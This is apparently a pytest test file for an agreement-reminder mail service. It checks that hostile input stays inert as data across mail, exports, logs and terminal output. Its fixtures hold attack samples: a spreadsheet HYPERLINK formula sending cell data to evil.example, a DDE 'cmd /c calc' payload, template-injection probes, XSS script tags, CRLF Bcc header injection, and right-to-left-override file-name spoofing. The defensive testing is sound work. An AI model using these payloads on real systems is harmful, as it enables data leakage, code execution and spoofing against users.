"""X-01 to X-10 all the way: data that looks like code goes through the whole service as data.

Each hostile text is imported, scanned, mailed and shown. It must be inert in the mail's
headers, text and HTML, in every export, in the log and on the terminal, and the agreement
beside it must be told exactly as it would be without it.
"""

from __future__ import annotations

import csv
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

import openpyxl
import pytest

from tests.installed import (
    body_of,
    dates_only,
    done,
    mails_of,
    reminder,
    rows_of,
    shown,
    tables_of,
    without_digests,
)
from tests.registers import BUREAUS, csv_text, write_files

if TYPE_CHECKING:
    from email.message import EmailMessage

COLUMNS = ["ref", "title", "kind", "bureau", "partner", "signed_on", "expires_on"]
CONTACTS = [["email", "bureau", "role", "name"], ["o@biro.example.go.id", "B-01", "officer"]]
PLAIN = ["KSD-1", "Kerja sama pendidikan", "KSDPL", "B-01", "Queensland", "2021-05-31"]
DUE = "2026-05-31"

ACCEPTED = {
    "X-01": '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "X-02": "@SUM(1+1)*cmd|'/c calc'!A0",
    "X-03": "＝1+1",
    "X-07": "{{ config }} {% for x in facts %} {{ ''.__class__ }}",
    "X-08": "<script>alert(1)</script><img src=x onerror=alert(1)></td></table>",
    "X-10": "Kerja sama раjak.go.id",
}
REFUSED = {
    "X-03": "\t=1+1",
    "X-04": "PT X\r\nBcc: all@example.org",
    "X-05": "Biro\u2028Bcc: x@example.org",
    "X-06": "Bi\0ro",
    "X-09": "a" + "\u0301" * 10_000,
    "X-10": "abc\u202egnp.exe",
}


def register(folder: Path, *agreements: list[str]) -> Path:
    """The bureau, its officer, and these agreements, which all end on one day."""
    contacts = csv_text(CONTACTS[0], [[*CONTACTS[1], "Siti"]])
    text = csv_text(COLUMNS, [[*row, DUE] for row in agreements])
    return write_files(folder, {"bureaus": BUREAUS, "contacts": contacts, "agreements": text})


class Tags(HTMLParser):
    """The elements of a page and the addresses that it leads to."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.urls: set[str] = set()
        self.handlers: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        for name, value in attrs:
            if name in ("href", "src"):
                # The token is another in every mail; what follows it says which answer is meant.
                self.urls.add(re.sub(r"/a/[^/]+", "/a/", value or ""))
            if name.startswith("on"):
                self.handlers.add(name)


def tags_of(html: str) -> Tags:
    tags = Tags()
    tags.feed(html)
    return tags


@dataclass
class World:
    """A home in which every accepted text has an agreement, a bureau and an officer to itself."""

    home: Path
    log: str
    mails: dict[str, EmailMessage]
    """By the item's name; ``plain`` is the agreement beside them."""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / "home"
    texts = {"plain": "Kerja sama pendidikan", **ACCEPTED}
    files = {
        "bureaus": csv_text(
            ["code", "name"], [[f"B-{name}", text] for name, text in texts.items()]
        ),
        "contacts": csv_text(
            CONTACTS[0],
            [[f"{name}@biro.example.go.id", f"B-{name}", "officer", text]
             for name, text in texts.items()],
        ),
        "agreements": csv_text(
            COLUMNS,
            [[name, text, "KSDPL", f"B-{name}", text, "2021-05-31", DUE]
             for name, text in texts.items()],
        ),
    }  # fmt: skip
    done(home, "init", home, at="")
    dates_only(without_digests(home))
    done(home, "import", write_files(folder / "in", files))
    ended = reminder(home, "once", REMINDER_LOG_LEVEL="debug")
    assert f"Delivered: {len(texts)} sent." in ended.stdout
    mails = {mail["To"].addresses[0].username: mail for mail in mails_of(home)}
    return World(home, ended.stderr, mails)


@pytest.mark.parametrize("name", ACCEPTED)
def test_hostile_text_is_accepted_as_data_and_inert_in_mail_and_log(
    world: World, name: str
) -> None:
    plain, odd = world.mails["plain"], world.mails[name]
    assert str(plain["Subject"]) == "[H-90] Kerja sama pendidikan berakhir 31 Mei 2026"
    assert plain.keys() == odd.keys(), "no header more"
    assert [one.addr_spec for one in odd["To"].addresses] == [f"{name}@biro.example.go.id"]
    usual, tags = tags_of(body_of(plain, "html")), tags_of(body_of(odd, "html"))
    assert (tags.names, tags.urls, tags.handlers) == (usual.names, usual.urls, set())
    assert ACCEPTED[name] not in world.log, "the log has ids only"
    record = shown(world.home, "log", "--agreement", name)
    assert [(row["state"], row["template_error"]) for row in record] == [("sent", None)]


def test_hostile_text_is_kept_as_it_was_written(world: World) -> None:
    """X-01, X-02, X-03, X-07, X-08, X-10: no row differs from what the file says."""
    kept = dict(rows_of(world.home, "SELECT ref, title FROM agreements"))
    assert kept == {"plain": "Kerja sama pendidikan", **ACCEPTED}


@pytest.mark.parametrize("command", [["log"], ["plan"], ["status"], ["check"], ["why", "X-08"]])
def test_hostile_text_moves_nothing_on_a_terminal(world: World, command: list[str]) -> None:
    told = done(world.home, *command)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u202e]", told)


@pytest.mark.parametrize("table", ["agreements", "messages", "contacts", "bureaus"])
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_no_exported_cell_begins_a_formula(
    world: World, tmp_path: Path, table: str, ending: str
) -> None:
    """X-01, X-02, X-03: every cell is a text, and none begins as a formula does."""
    out = tmp_path / f"{table}.{ending}"
    done(world.home, "export", table, out)
    if ending == "csv":
        with out.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
    else:
        book = openpyxl.load_workbook(out)
        found = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value]
        book.close()
        assert {cell.data_type for cell in found} == {"s"}
        cells = [str(cell.value) for cell in found]
    assert [cell for cell in cells if re.match(r"[=+@＝＋＠\t\r]", cell)] == []


def test_calendar_has_an_event_for_each_agreement_and_no_line_more(
    world: World, tmp_path: Path
) -> None:
    done(world.home, "export", "agreements", tmp_path / "a.ics")
    calendar = (tmp_path / "a.ics").read_text(encoding="utf-8")
    assert calendar.count("BEGIN:VEVENT") == len(ACCEPTED) + 1


def test_text_that_no_office_writes_is_refused_by_row_and_column_and_changes_nothing(
    home: Path, tmp_path: Path
) -> None:
    """X-03, X-04, X-05, X-06, X-09, X-10, each as a title and as a partner."""
    done(home, "import", register(tmp_path / "good", PLAIN))
    before = tables_of(home)
    bad = [(name, column) for name in REFUSED for column in ("title", "partner")]
    rows = []
    for number, (name, column) in enumerate(bad):
        row = [f"KSD-{number + 2}", "Kerja sama", "KSDPL", "B-01", "Hainan", "2021-05-31"]
        row[COLUMNS.index(column)] = REFUSED[name]
        rows.append(row)
    ended = reminder(home, "import", register(tmp_path / "bad", PLAIN, *rows))
    assert (ended.returncode, ended.stdout) == (1, "")
    *problems, summary = ended.stderr.split("\n")[:-1]
    line = 3
    for number, ((name, column), problem) in enumerate(zip(bad, problems, strict=True)):
        assert problem.startswith(f"agreements.csv:{line}: KSD-{number + 2}: {column}: "), name
        assert problem.isprintable()
        line += 2 if "\n" in REFUSED[name] else 1
    assert summary == f"{len(bad)} mistakes found: nothing was imported."
    assert tables_of(home) == before


def test_code_in_every_text_of_the_register_reaches_no_template_and_no_other_agreement(
    home: Path, tmp_path: Path
) -> None:
    """X-07 and X-08 in each column that a mail shows, beside an agreement that is as ever."""
    text = "{{ 7*7 }}<b onclick=x>{% include 'plain/id/body.txt.j2' %}</b>"
    alone = tmp_path / "alone"
    done(alone, "init", alone, at="")
    dates_only(without_digests(alone))
    done(alone, "import", register(tmp_path / "one", PLAIN))
    done(alone, "once")
    columns = [*COLUMNS, "local_party", "country", "leading_unit", "legal_basis", "letter_number",
               "fields", "notes"]  # fmt: skip
    rows = [
        [*PLAIN, DUE, *[""] * 7],
        ["KSD-2", text, "KSDPL", "B-01", text, "2021-05-31", DUE, *[text] * 7],
    ]
    folder = register(tmp_path / "two", PLAIN)
    write_files(folder, {"agreements": csv_text(columns, rows)})
    done(home, "import", folder)
    done(home, "once")
    odd = next(mail for mail in mails_of(home) if "pendidikan" not in str(mail["Subject"]))
    read = " ".join(body_of(odd).split())
    assert "{{ 7*7 }}" in read
    assert "{% include" in read
    assert tags_of(body_of(odd, "html")).handlers == set()
    query = "SELECT subject FROM contents WHERE subject LIKE '%pendidikan%'"
    assert rows_of(home, query) == rows_of(alone, query)
